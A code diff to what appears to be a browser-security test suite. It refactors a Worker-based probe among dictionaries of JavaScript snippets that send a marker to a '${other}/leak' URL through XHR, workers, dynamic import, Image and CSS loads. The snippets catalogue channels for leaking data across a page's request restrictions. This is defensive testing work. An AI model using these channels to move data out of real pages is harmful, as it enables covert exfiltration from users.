@@ -55,6 +55,12 @@ XHR_THAT_WAITS = """
       request.open("GET", `${other}/leak?${mark}`, false);
       request.send();
     """
+WORKER_BY_ADDRESS = """
+      await new Promise((end, fail) => {
+        new Worker(`${own}/leak?${mark}`).onerror = (event) => { event.preventDefault(); fail(new Error("worker")); };
+        setTimeout(end, 700);
+      });
+    """
 WITHIN = """
   const text = `%s`;
   await new Promise((end, fail) => {
@@ -96,12 +102,6 @@ ANYWHERE: dict[str, str | tuple[str, Seen]] = {
       await import(`data:text/javascript,import ${encodeURIComponent(JSON.stringify(`${other}/leak?${mark}`))}`);
     """,
     "import() of JSON": "await import(`${own}/leak?${mark}`, { with: { type: 'json' } })",
-    "a worker by address": """
-      await new Promise((end, fail) => {
-        new Worker(`${own}/leak?${mark}`).onerror = (event) => { event.preventDefault(); fail(new Error("worker")); };
-        setTimeout(end, 700);
-      });
-    """,
     "a worker within, from a blob": WITHIN % (CALLS, BLOB),
     "a worker within, from data": WITHIN % (CALLS, DATA),
     "a worker within, a module": WITHIN
@@ -151,6 +151,8 @@ WORKER_WAITS: dict[str, str | tuple[str, Seen]] = {
       importScripts(`data:text/javascript,${encodeURIComponent(`fetch("${other}/leak?${mark}")`)}`);
       await sleep(700);
     """,
+    # Firefox, when it refuses many at once, sometimes never answers the worker again.
+    "a worker by address": WORKER_BY_ADDRESS,
 }
 WORKER: dict[str, str | tuple[str, Seen]] = {
     "a script made of a string": "await new Function('url', 'return fetch(url)')(`${own}/leak?${mark}`)",
@@ -313,6 +315,7 @@ WINDOW: dict[str, str | tuple[str, Seen]] = {
     **{name: f"{PUT} put(`{text.strip()}`); await sleep(700)" for name, text in ELEMENTS.items()},
     **{name: (f"{PUT} put(`{text}`); await sleep(700)", "name") for name, text in NAMES.items()},
     "XMLHttpRequest that waits": XHR_THAT_WAITS,
+    "a worker by address": WORKER_BY_ADDRESS,
     "new Image": "new Image().src = `${other}/leak?${mark}`; await sleep(700)",
     "a style set by script": """
       document.getElementById('host').style.borderImage = `url('${other}/leak?${mark}') 1`; await sleep(700);
